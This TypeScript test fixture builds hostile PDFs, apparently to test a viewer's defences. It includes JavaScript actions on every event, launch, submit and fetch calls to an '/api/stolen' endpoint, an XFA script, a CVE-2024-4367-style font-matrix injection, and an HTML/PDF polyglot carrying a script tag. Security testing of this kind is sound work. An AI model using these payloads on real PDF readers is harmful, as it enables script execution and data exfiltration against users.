/** PDFs that try all that a PDF can ask of its reader. */
import { onePage, stream, textPage } from './write-pdf.ts'

export const SCRIPT = '<script>top.__ran = 1; fetch("/api/stolen")</script>'

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/**
 * Scripts at every event, links of every kind, a form that sends itself, XFA, a picture and a font that are elsewhere, a font
 * whose matrix and name are code (as in CVE-2024-4367), and what plays or is launched.
 */
export const hostile = (origin: string): Buffer => {
  const at = `${origin}/api/stolen`
  const code = `app.launchURL('${at}'); this.submitForm('${at}'); top.__ran = 1; fetch('${at}')`
  const js = `<< /S /JavaScript /JS (${code.replaceAll(/[()]/g, '\\$&')}) >>`
  const everywhere = '/Rect [0 0 300 400]'
  const link = (action: string) => `<< /Type /Annot /Subtype /Link ${everywhere} /A ${action} >>`
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">${code}</script></event></subform></template>${SCRIPT}</xdp:xdp>`
  const further = [
    // 5 to 9: what is drawn.
    HELVETICA,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Evil\\);fetch\\('${at}'\\)// /FirstChar 65 /LastChar 66 /Widths [500 500] /FontMatrix [0.001 0 0 0.001 0 (0\\); fetch\\('${at}'\\)//)] /FontDescriptor 7 0 R >>`,
    `<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile3 8 0 R >>`,
    stream('/Subtype /Type1C', Buffer.from(`\x01\x00\x04\x01${SCRIPT}`)),
    stream(
      `/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceRGB /F << /FS /URL /F (${at}) >>`,
      '',
    ),
    // 10 and 11: the form.
    stream('', xfa),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (${SCRIPT}) ${everywhere} /AA << /K ${js} /F ${js} /V ${js} /C ${js} /Fo ${js} /PO ${js} /PV ${js} >> >>`,
  ]
  const annotations = [
    link(`<< /S /URI /URI (${at}) >>`),
    link(`<< /S /URI /URI (javascript:top.__ran=1) >>`),
    link(`<< /S /Launch /F (${at}) /NewWindow true >>`),
    link(`<< /S /GoToR /F << /FS /URL /F (${at}) >> /D [0 /Fit] /NewWindow true >>`),
    link(`<< /S /GoToE /F (${at}) /D [0 /Fit] >>`),
    link(`<< /S /SubmitForm /F << /FS /URL /F (${at}) >> /Flags 4 >>`),
    link(`<< /S /ImportData /F (${at}) >>`),
    link(js),
    '11 0 R',
    `<< /Type /Annot /Subtype /Screen ${everywhere} /A << /S /Rendition /OP 0 /JS (${code.replaceAll(/[()]/g, '\\$&')}) >> >>`,
    `<< /Type /Annot /Subtype /FileAttachment ${everywhere} /FS << /FS /URL /F (${at}) >> >>`,
  ]
  return onePage(
    '/Font << /F1 5 0 R /F2 6 0 R >> /XObject << /Im 9 0 R >>',
    'BT /F1 18 Tf 20 350 Td (Read me) Tj ET BT /F2 18 Tf 20 250 Td (AB) Tj ET q 50 0 0 50 20 20 cm /Im Do Q',
    further,
    {
      catalogue: `/OpenAction ${js} /AA << /WC ${js} /WP ${js} >> /URI << /Base (${at}) >> /Names << /JavaScript << /Names [(a) ${js}] >> >> /AcroForm << /Fields [11 0 R] /XFA 10 0 R /NeedAppearances true >> /NeedsRendering true`,
      page: `/AA << /O ${js} /C ${js} >> /Annots [${annotations.join(' ')}]`,
    },
  )
}

/** A page to a browser, and a PDF to a reader of PDFs. */
export const polyglot = (): Buffer =>
  textPage('Both of them', { before: `<!doctype html><html>${SCRIPT}<!--\n` })

/** In a coding of Japan's, of a font that is not inside. */
export const japanese = (): Buffer =>
  onePage('/Font << /F1 5 0 R >>', 'BT /F1 40 Tf 20 300 Td <93FA967B> Tj ET', [
    '<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /90ms-RKSJ-H /DescendantFonts [6 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /DW 1000 /FontDescriptor 7 0 R >>',
    '<< /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
  ])
